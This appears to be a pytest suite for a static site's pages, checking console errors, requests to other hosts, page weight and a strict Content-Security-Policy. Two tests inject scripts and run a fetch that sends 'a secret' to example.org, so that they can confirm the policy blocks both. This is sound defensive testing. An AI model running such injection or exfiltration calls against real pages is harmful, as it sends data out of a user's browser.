"""What a page asks for: nothing that fails, nothing of another host, and little of its own."""

import json
import re

import pytest
from visits import expect_none

FIRST_VIEW = 200_000  # bytes, compressed, with fonts and without figures


def test_the_console_is_quiet(visits):
    expect_none(f"{page}: {line}" for page, seen in visits.items() for line in seen.console)


def test_no_other_host_is_asked(visits, address):
    host = address[: address.index("/", len("http://")) + 1]
    expect_none(
        f"{page}: {asked}"
        for page, seen in visits.items()
        for asked in seen.asked
        if not asked.startswith(host)
    )


def test_no_request_fails(visits):
    expect_none(f"{page}: {failed}" for page, seen in visits.items() for failed in seen.failed)


def test_a_first_view_is_light(visits, site):
    weights = {
        page: {
            asked: len(site.sent(site.served(asked)))
            for asked, purpose in seen.first.items()
            if purpose != "image" and site.served(asked)
        }
        for page, seen in visits.items()
    }
    expect_none(
        f"{page}: {sum(parts.values())} bytes {json.dumps(parts, indent=2)}"
        for page, parts in weights.items()
        if sum(parts.values()) > FIRST_VIEW
    )


def directives(page) -> dict[str, list[str]]:
    """The policy of a parsed page."""
    found = page.select("head > meta[http-equiv=Content-Security-Policy]")
    assert len(found) == 1, "not one policy"
    before = [tag.name for tag in found[0].find_previous_siblings()]
    assert set(before) <= {"meta"}, "what stands before a policy escapes it"
    return {name: rest for name, *rest in map(str.split, found[0]["content"].split(";"))}


def test_each_page_has_a_strict_policy(site):
    for page in site.pages:
        policy = directives(site.soup(page))
        assert policy["default-src"] == ["'none'"], page
        assert policy["base-uri"] == ["'none'"], page
        assert policy["form-action"] == ["'self'", "file:"], page
        assert policy["script-src"] == ["'self'"], page
        assert not site.soup(page).select("script:not([src])"), page
        own = "'self'|'none'|data:|file:|'unsafe-inline'"  # pictures in style sheets; KaTeX's boxes
        sources = {source for given in policy.values() for source in given}
        assert all(re.fullmatch(own, source) for source in sources), page


@pytest.mark.parametrize(
    "attempt",
    ["textContent = '", "src = 'data:text/javascript,"],
    ids=["inline", "address"],
)
def test_the_policy_stops_a_script_from_elsewhere(tab, address, attempt):
    tab.goto(f"{address}book/index.html")
    first = tab.evaluate(
        f"""() => new Promise(resolve => {{
          window.tell = resolve;
          addEventListener("securitypolicyviolation", () => tell("stopped"));
          const addition = document.createElement("script");
          addition.{attempt}tell("it ran")';
          document.head.append(addition);
        }})"""
    )
    assert first == "stopped"


def test_the_policy_stops_what_would_be_sent_elsewhere(tab, address):
    tab.goto(f"{address}book/index.html")
    with tab.expect_console_message(lambda m: "Content Security Policy" in m.text):
        tab.evaluate("fetch('https://example.org/?what=a+secret').catch(() => {})")
